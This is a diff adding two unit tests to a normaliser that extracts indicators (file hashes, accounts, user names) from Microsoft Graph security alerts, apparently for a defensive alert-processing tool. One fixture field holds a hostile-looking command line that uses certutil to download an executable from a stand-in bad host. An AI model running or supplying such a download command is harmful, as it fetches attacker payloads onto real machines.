@@ -66,4 +66,27 @@ describe('ms_graph', () => {
     });
     expect(statedBy(alert)).toEqual(['ip 198.51.100.90', 'account quin@contoso.com']);
   });
+
+  test('states a user where the name stands, and leaves the evidence beside it to be read', () => {
+    const evidence = {
+      sha256: 'ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad',
+      accountName: 'bob',
+      domainName: 'CORP',
+      processCommandLine: 'certutil -urlcache http://bad.example.net/a.exe',
+    };
+    const userAccount = { userPrincipalName: 'ann@contoso.com', azureAdUserId: 'x' };
+    const alert = normalized(msGraph, { title: 'A', evidence: [evidence, { userAccount }] });
+    expect(alert.statedIndicators.map(({ value, pointer }) => [value, pointer])).toEqual([
+      [evidence.sha256, '/evidence/0/sha256'],
+      ['CORP\\bob', '/evidence/0/accountName'],
+      ['ann@contoso.com', '/evidence/1/userAccount'],
+    ]);
+  });
+
+  test('reads the hashes of advanced hunting', () => {
+    const alert = normalized(msGraph, {
+      properties: { Title: 'A', SHA1: 'a9993e364706816aba3e25717850c26c9cd0d89d' },
+    });
+    expect(alert.fields).toEqual({ file_hash_sha1: 'a9993e364706816aba3e25717850c26c9cd0d89d' });
+  });
 });
